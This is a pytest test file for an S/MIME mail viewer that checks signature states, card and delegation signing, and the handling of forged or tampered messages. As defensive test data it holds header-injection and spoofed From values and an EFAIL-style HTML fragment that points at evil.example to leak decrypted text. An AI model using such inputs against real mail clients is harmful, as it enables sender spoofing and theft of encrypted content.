"""What a reader sees, by the judge: signature states, header forgeries, and the negative tests of security.md §6 (CMS)."""

import hashlib
from collections.abc import Callable
from dataclasses import replace
from datetime import timedelta
from typing import Any

import pytest
from cryptography.hazmat.primitives.asymmetric import ec

from bridge.cms.delegation import Delegation
from bridge.cms.grants import GrantBody, Holder, HolderKind, Role
from bridge.cms.log import NO_PREVIOUS, LogEntry, LogKind, build_entry
from bridge.cms.messages import sign_message, sign_with_card
from bridge.pki import certificates
from tests.judge.practice import Mailbox, Practice, enveloped, signed

Judge = Callable[..., dict[str, Any]]


def view(judge: Judge, practice: Practice, message: bytes, **more: Any) -> dict[str, Any]:
    return judge("view", message=message, keys=[practice.bob.opener()], **practice.trust(), **more)


def wire(practice: Practice, inner: bytes, *options: str, sender: str = "alice@pli.example") -> bytes:
    return practice.outer(sender) + enveloped(practice.encrypt(inner, *options or ("-aes-256-cbc",)))


@pytest.fixture
def letter(practice: Practice) -> bytes:
    """An E2h message of Alice to Bob, before encryption."""
    entity = practice.entity()
    return signed(entity, practice.signature(entity, card=practice.alice_card))


@pytest.mark.capability("CO6", "CO10")
def test_view_e2h_encrypted_is_s1(judge: Judge, practice: Practice, letter: bytes) -> None:
    seen = view(judge, practice, wire(practice, letter), viewer="bob@pli.example")
    assert seen["signature"]["state"] == "S1"
    assert seen["signature"]["signer"]["rppsNumber"] == practice.pki.cards["alice"].rpps_number
    assert seen["signature"]["signer"]["level"] == "card"
    assert (seen["subject"], seen["from"]) == ("Bilan", "Dr Alice <alice@pli.example>")
    assert seen["text"] == "Bonjour,\n\nvoici le bilan.\n"
    assert seen["encrypted"] is True
    assert seen["notices"] == []


def test_view_mailbox_signature_alone_is_s1b(judge: Judge, practice: Practice) -> None:
    entity = practice.entity()
    seen = view(judge, practice, practice.outer() + signed(entity, practice.signature(entity)))
    assert (seen["signature"]["state"], seen["signature"]["reason"]) == ("S1b", "no-card")
    assert seen["signature"]["signer"]["rppsNumber"] == ""


def test_view_card_signature_over_other_content_is_s1b_and_named(judge: Judge, practice: Practice) -> None:
    entity, other = practice.entity(), practice.entity(protected=False)
    signature = sign_message(
        entity, practice.alice.signer, encryption_certificate=practice.alice.encryption,
        signing_time=practice.now, card_signature=sign_with_card(other, practice.alice_card, practice.now),
    )  # fmt: skip
    seen = view(judge, practice, practice.outer() + signed(entity, signature))
    assert (seen["signature"]["state"], seen["signature"]["reason"]) == ("S1b", "card-signature-invalid")


def test_view_revoked_or_expired_card_is_not_s1(judge: Judge, practice: Practice) -> None:
    entity = practice.entity()
    signature = practice.signature(entity, card=practice.card("erin"))
    seen = view(judge, practice, practice.outer() + signed(entity, signature))
    assert (seen["signature"]["state"], seen["signature"]["reason"]) == ("S1b", "card-certificate-expired")


def test_view_without_revocation_lists_is_s4(judge: Judge, practice: Practice, letter: bytes) -> None:
    trust = practice.trust() | {"crls": []}
    seen = judge("view", message=practice.outer() + letter, keys=[], **trust)
    assert (seen["signature"]["state"], seen["signature"]["reason"]) == ("S4", "revocation-unknown")


def test_view_unknown_authority_is_s4(judge: Judge, practice: Practice, letter: bytes) -> None:
    seen = judge("view", message=practice.outer() + letter, keys=[], anchors=[], at=practice.trust()["at"])
    assert (seen["signature"]["state"], seen["signature"]["reason"]) == ("S4", "certificate-untrusted")


def test_view_card_alone_without_directory_is_neutral(judge: Judge, practice: Practice) -> None:
    entity = practice.entity()
    seen = view(
        judge, practice, practice.outer() + signed(entity, sign_with_card(entity, practice.alice_card, practice.now))
    )
    assert seen["signature"]["state"] == "N"


def test_view_altered_content_is_s5(judge: Judge, practice: Practice, letter: bytes) -> None:
    seen = view(judge, practice, practice.outer() + letter.replace(b"bilan.", b"bilam."))
    assert (seen["signature"]["state"], seen["signature"]["reason"]) == ("S5", "digest-mismatch")


def test_view_lf_only_transport_keeps_the_signature(judge: Judge, practice: Practice, letter: bytes) -> None:
    seen = view(judge, practice, (practice.outer() + letter).replace(b"\r\n", b"\n"))
    assert seen["signature"]["state"] == "S1"


@pytest.mark.negative(38)
def test_view_outer_subject_altered_shows_the_protected_one(judge: Judge, practice: Practice, letter: bytes) -> None:
    seen = view(judge, practice, practice.outer(subject="Virement urgent") + letter)
    assert seen["subject"] == "Bilan"
    assert seen["signature"]["state"] == "S1"


@pytest.mark.negative(32)
def test_view_outer_from_altered_is_s3(judge: Judge, practice: Practice, letter: bytes) -> None:
    """A signed letter replayed under another From."""
    seen = view(judge, practice, practice.outer("mallory@evil.example") + letter)
    assert (seen["signature"]["state"], seen["signature"]["reason"]) == ("S3", "outer-from-differs")


@pytest.mark.negative(32)
def test_view_card_content_replayed_by_another_mailbox_is_s3(judge: Judge, practice: Practice) -> None:
    """The card part is genuine; only the From inside it tells."""
    entity, mallory = practice.entity(), practice.mailbox("mallory@pli.example")
    signature = practice.signature(entity, mailbox=mallory, card=practice.alice_card)
    seen = view(judge, practice, practice.outer("mallory@pli.example") + signed(entity, signature))
    assert seen["signature"]["state"] == "S3"
    assert seen["from"] == "mallory@pli.example"


@pytest.mark.parametrize(
    "hostile",
    [
        b'From: "alice@pli.example"@evil.example',
        b"From: alice@pli.example\r\nFrom: mallory@evil.example",
        b"From: alice@pli.example\0",
    ],
)
@pytest.mark.negative(33)
def test_view_hostile_from_is_never_proved(judge: Judge, practice: Practice, letter: bytes, hostile: bytes) -> None:
    outer = practice.outer().replace(b"From: alice@pli.example", hostile)
    seen = view(judge, practice, outer + letter)
    assert seen["signature"]["state"] in {"S3", "S5"}


@pytest.mark.negative(34)
def test_view_signed_message_attached_is_unsigned(judge: Judge, practice: Practice, letter: bytes) -> None:
    message = (
        practice.outer("mallory@evil.example")
        + b'Content-Type: multipart/mixed; boundary="=_m"\r\n\r\n--=_m\r\n\r\nregarde\r\n'
    )
    seen = view(
        judge,
        practice,
        message + b"--=_m\r\nContent-Type: message/rfc822\r\n\r\n" + practice.outer() + letter + b"\r\n--=_m--\r\n",
    )
    assert (seen["signature"]["state"], seen["signature"]["reason"]) == ("S5", "unsigned")
    assert [one["type"] for one in seen["attachments"]] == ["message/rfc822"]
    assert seen["text"] == "regarde"


@pytest.mark.negative(35)
def test_view_encrypted_part_between_clear_ones_is_not_merged(judge: Judge, practice: Practice, letter: bytes) -> None:
    clear = b"--=_m\r\nContent-Type: text/html\r\n\r\n<img src='http://evil.example/?\r\n"
    secret = b"--=_m\r\n" + enveloped(practice.encrypt(letter, "-aes-256-cbc")) + b"\r\n"
    message = practice.outer() + b'Content-Type: multipart/mixed; boundary="=_m"\r\n\r\n' + clear + secret
    seen = view(judge, practice, message + b"--=_m\r\nContent-Type: text/html\r\n\r\n'>\r\n--=_m--\r\n")
    assert "Bonjour" not in seen["text"] + (seen["html"] or "")
    assert seen["encrypted"] is False
    assert seen["requests"] == []


@pytest.mark.negative(36)
def test_view_protected_to_names_another_is_told(judge: Judge, practice: Practice, letter: bytes) -> None:
    seen = view(judge, practice, wire(practice, letter), viewer="carol@pli.example")
    assert "not-addressed-to-you" in seen["notices"]


@pytest.mark.negative(30)
def test_view_unsigned_cbc_html_is_text_only(judge: Judge, practice: Practice) -> None:
    seen = view(judge, practice, wire(practice, practice.entity(html=True)))
    assert seen["html"] is None
    assert (seen["text"], seen["signature"]["reason"]) == ("Bonjour", "sender-not-proved")


def test_view_unsigned_gcm_html_is_html(judge: Judge, practice: Practice) -> None:
    seen = view(judge, practice, wire(practice, practice.entity(html=True), "-aes-256-gcm"))
    assert seen["html"] == "<p>Bonjour</p>"


def test_view_signature_around_ciphertext_proves_nobody(judge: Judge, practice: Practice) -> None:
    blob = enveloped(practice.encrypt(practice.entity(), "-aes-256-cbc"))
    seen = view(judge, practice, practice.outer() + signed(blob, practice.signature(blob, card=practice.alice_card)))
    assert (seen["signature"]["state"], seen["signature"]["reason"]) == ("S5", "sender-not-proved")


def test_view_for_somebody_else_is_one_generic_failure(judge: Judge, practice: Practice, letter: bytes) -> None:
    message = practice.outer() + enveloped(practice.encrypt(letter, "-aes-256-cbc", to=practice.alice))
    assert view(judge, practice, message)["quarantined"] == "decrypt-failed"


@pytest.mark.parametrize("cipher", ["-aes-256-cbc", "-aes-256-gcm"])
@pytest.mark.negative(28)
def test_view_flipped_ciphertext_shows_nothing(judge: Judge, practice: Practice, cipher: str) -> None:
    """The same answer for GCM and CBC."""
    cms = bytearray(practice.encrypt(b"not mime " * 40, cipher))
    cms[-20] ^= 1
    seen = view(judge, practice, practice.outer() + enveloped(bytes(cms)))
    assert (seen["text"], seen["quarantined"]) == ("", "decrypt-failed")


@pytest.mark.negative(25)
def test_view_gcm_relabelled_cbc_is_refused(judge: Judge, practice: Practice, letter: bytes) -> None:
    cms = practice.encrypt(letter, "-aes-256-gcm")
    gcm, cbc = bytes.fromhex("060960864801650304012e"), bytes.fromhex("060960864801650304012a")
    seen = view(judge, practice, practice.outer() + enveloped(cms.replace(gcm, cbc)))
    assert seen["quarantined"]


@pytest.mark.capability("CO10")
@pytest.mark.parametrize(
    "options",
    [
        ("-aes-256-cbc",),
        ("-aes-128-cbc", "-stream"),
        ("-aes-256-gcm",),
        ("-aes-256-cbc", "-keyopt", "rsa_padding_mode:oaep"),
        ("-aes-256-gcm", "-keyopt", "rsa_padding_mode:oaep", "-keyopt", "rsa_oaep_md:sha256"),
    ],
    ids=["v15-cbc", "stream", "gcm", "oaep-sha1-cbc", "oaep-sha256-gcm"],
)
@pytest.mark.parametrize("opaque", [True, False], ids=["opaque", "detached"])
def test_view_openssl_sign_then_encrypt(
    judge: Judge, practice: Practice, options: tuple[str, ...], opaque: bool
) -> None:
    denis = practice.pki.directory / "people" / "denis"
    files = ("-signer", str(denis / "certificate.pem"), "-inkey", str(denis / "private-key.pem"))
    kind = () if not opaque else ("-nodetach",)
    entity = practice.entity(protected=False)
    inner = practice.openssl(
        "cms", "-sign", "-binary", *kind, *files, "-certfile", str(denis / "chain.pem"), content=entity
    )
    ordered = [one for one in options if one.startswith("-aes") or one == "-stream"]
    recipient = practice.file("bob.pem", _pem(practice.bob))
    key_options = [one for one in options if one not in ordered]
    cms = practice.openssl(
        "cms", "-encrypt", "-binary", "-outform", "DER", *ordered, "-recip", recipient, *key_options, content=inner
    )
    seen = view(judge, practice, practice.outer("denis@partner.example") + enveloped(cms))
    assert "voici le bilan." in seen["text"]
    assert (seen["signature"]["state"], seen["signature"]["reason"]) == ("S1b", "headers-unprotected")
    assert seen["signature"]["signer"]["email"] == "denis@partner.example"


@pytest.mark.capability("CO10")
def test_view_openssl_ecdh_p384(judge: Judge, practice: Practice, letter: bytes) -> None:
    carol = practice.mailbox("carol@pli.example", curve=ec.SECP384R1())
    cms = practice.encrypt(letter, "-aes-256-cbc", to=carol)
    seen = judge("view", message=practice.outer() + enveloped(cms), keys=[carol.opener()], **practice.trust())
    assert seen["signature"]["state"] == "S1"


def _pem(mailbox: Mailbox) -> bytes:
    return certificates.pem(mailbox.encryption)


def test_view_triple_wrapped_and_wrong_smime_type(judge: Judge, practice: Practice, letter: bytes) -> None:
    blob = enveloped(practice.encrypt(letter, "-aes-256-cbc"), "signed-data")
    triple = signed(blob, practice.signature(blob))
    assert view(judge, practice, practice.outer() + triple)["signature"]["state"] == "S1"


def test_view_p7m_as_only_attachment(judge: Judge, practice: Practice, letter: bytes) -> None:
    cms = enveloped(practice.encrypt(letter, "-aes-256-cbc")).replace(
        b"application/pkcs7-mime", b"application/octet-stream"
    )
    message = (
        practice.outer()
        + b'Content-Type: multipart/mixed; boundary="=_m"\r\n\r\n--=_m\r\n\r\n \r\n--=_m\r\n'
        + cms
        + b"\r\n--=_m--\r\n"
    )
    assert view(judge, practice, message)["signature"]["state"] == "S1"


def test_view_thirty_one_levels_is_quarantined(judge: Judge, practice: Practice) -> None:
    nest = b"".join(b'Content-Type: multipart/mixed; boundary="=_%d"\r\n\r\n--=_%d\r\n' % (i, i) for i in range(40))
    assert view(judge, practice, practice.outer() + nest + b"\r\nx")["quarantined"] == "limit-exceeded"


@pytest.mark.parametrize("cipher", ["-des3", "-aes-256-cbc"])
def test_view_old_cipher_waits_for_a_person(judge: Judge, practice: Practice, letter: bytes, cipher: str) -> None:
    message = wire(practice, letter, cipher)
    if cipher == "-des3":
        assert view(judge, practice, message)["quarantined"] == "old-cipher"
    seen = view(judge, practice, message, allow_old=True)
    assert seen["text"].startswith("Bonjour,")
    assert ("old-cipher" in seen["notices"]) is (cipher == "-des3")
    assert seen["encryption"]["old"] is (cipher == "-des3")


def test_view_under_a_password_asks_for_it(judge: Judge, practice: Practice, letter: bytes) -> None:
    cms = practice.openssl(
        "cms",
        "-encrypt",
        "-binary",
        "-outform",
        "DER",
        "-aes-256-cbc",
        "-pwri_password",
        "mot de passe",
        content=letter,
    )
    message = practice.outer() + enveloped(cms)
    assert view(judge, practice, message)["quarantined"] == "password-needed"
    assert view(judge, practice, message, password="mot de passe")["signature"]["state"] == "S1"


def test_view_names_what_stands_behind_both_signatures(judge: Judge, practice: Practice, letter: bytes) -> None:
    signature = view(judge, practice, practice.outer() + letter)["signature"]
    assert (signature["details"]["algorithm"], signature["details"]["revocation"]) == ("ECDSA P-256", "good")
    assert (signature["card"]["algorithm"], signature["card"]["revocation"]) == ("RSA 2048", "good")
    assert signature["details"]["authority"] != signature["card"]["authority"]


def test_view_card_of_another_than_the_directory_names_is_s3(judge: Judge, practice: Practice, letter: bytes) -> None:
    rpps = practice.pki.cards["alice"].rpps_number
    for named, state in ((rpps, "S1"), (practice.pki.cards["bob"].rpps_number, "S3")):
        seen = view(judge, practice, practice.outer() + letter, directory={"alice@pli.example": named})
        assert seen["signature"]["state"] == state


def delegation(practice: Practice, **changes: Any) -> bytes:
    """Bob's card lets Alice's write for alice@pli.example, as for a mailbox that is his."""
    card, mailbox_id = practice.pki.cards["alice"], bytes(16)
    before = practice.now - timedelta(days=2)
    body = GrantBody(
        grant_id=bytes(16), mailbox_id=mailbox_id, address="alice@pli.example", epoch=1,
        encryption_spki=certificates.spki_sha256(practice.alice.encryption),
        signature_spki=certificates.spki_sha256(practice.alice.signer.certificate),
        encryption_certificate=certificates.certificate_sha256(practice.alice.encryption),
        signature_certificate=certificates.certificate_sha256(practice.alice.signer.certificate),
        holder=Holder(HolderKind.CARD, bytes(32), "RPPS", card.rpps_number, "Alice Martin"), role=Role.SENDER,
        history_from_epoch=1, not_before=before, not_after=None, log_seq=0, prev_log_hash=NO_PREVIOUS,
    )  # fmt: skip
    body = replace(body, **changes)
    entry = LogEntry(
        mailbox_id=mailbox_id, address="alice@pli.example", seq=0, prev_hash=NO_PREVIOUS, time=before,
        kind=LogKind.GENESIS, grants=(body.digest,), bindings=(hashlib.sha256(b"").digest(),),
    )  # fmt: skip
    return Delegation(build_entry(entry, practice.card("bob")), body.to_der()).to_der()


@pytest.mark.parametrize(
    ("changes", "state", "reason"),
    [
        ({}, "S2", "signed-for-mailbox"),
        ({"role": Role.READER}, "S3", "delegation-refused"),
        ({"address": "bob@pli.example"}, "S3", "delegation-refused"),
    ],
)
def test_view_delegate_for_a_mailbox(
    judge: Judge, practice: Practice, changes: dict[str, Any], state: str, reason: str
) -> None:
    entity = practice.entity()
    signature = sign_message(
        entity, practice.alice.signer, encryption_certificate=practice.alice.encryption, signing_time=practice.now,
        card_signature=sign_with_card(entity, practice.alice_card, practice.now), delegation=delegation(practice, **changes),
    )  # fmt: skip
    owner = {"alice@pli.example": practice.pki.cards["bob"].rpps_number}
    seen = view(judge, practice, practice.outer() + signed(entity, signature), directory=owner)
    assert (seen["signature"]["state"], seen["signature"]["reason"]) == (state, reason)
    assert seen["signature"]["signer"]["rppsNumber"] == practice.pki.cards["alice"].rpps_number
